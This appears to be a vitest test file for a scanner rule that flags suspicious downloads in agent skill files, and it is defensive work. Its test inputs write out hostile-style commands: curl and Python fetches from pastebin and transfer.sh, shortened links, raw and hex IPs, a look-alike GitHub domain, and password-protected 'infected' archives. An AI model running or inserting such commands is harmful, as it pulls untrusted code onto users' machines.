import { expect, test } from "vitest";
import { findingsOf } from "../../findings-of.ts";

const skill = (body: string): string => `---\nname: tool\ndescription: Does a task.\n---\n${body}\n`;
const inBlock = (code: string, language = "sh"): string => skill(`\`\`\`${language}\n${code}\n\`\`\``);

test.each([
  ["curl -s https://pastebin.com/raw/abc -o x", "pasteSite medium"],
  ["import requests\nrequests.get('https://transfer.sh/x/run.py')", "pasteSite medium", "python"],
  ["curl -L https://bit.ly/3abc", "shortener medium"],
  ["curl -O http://93.184.216.34/x.zip", "rawIp medium"],
  ["wget http://user:pw@93.184.216.34/x", "rawIp medium"],
  ["curl http://0x5db8d822/x.sh", "rawIp medium"],
  ["curl -O https://githab.com/x.zip", "lookAlike high"],
  ["unzip -P openclaw agent.zip", "lockedArchive high"],
  ["7z x -pinfected tool.7z", "lockedArchive high"],
  ["unrar x -pinfected tool.rar", "lockedArchive high"],
])("%s: %s", (code, expected, language = "sh") => {
  const found = findingsOf("paste-or-raw-ip-download", inBlock(code, language));
  expect(found.map(({ message, level }) => `${message} ${level}`)).toContain(expected);
});

test.each([
  ["curl http://127.0.0.1:8080/"],
  ["curl http://10.0.0.5/x"],
  ["curl http://203.0.113.9/z"],
  ["curl http://1.2.3.4/x"],
  ["curl https://vendor.io/blog/bit.ly/x"],
  ["curl https://notpastebin.company/x"],
  ["unzip a.zip"],
  ["echo https://pastebin.com/abc"],
])("%s is fine", (code, language = "sh") => {
  expect(findingsOf("paste-or-raw-ip-download", inBlock(code, language))).toEqual([]);
});
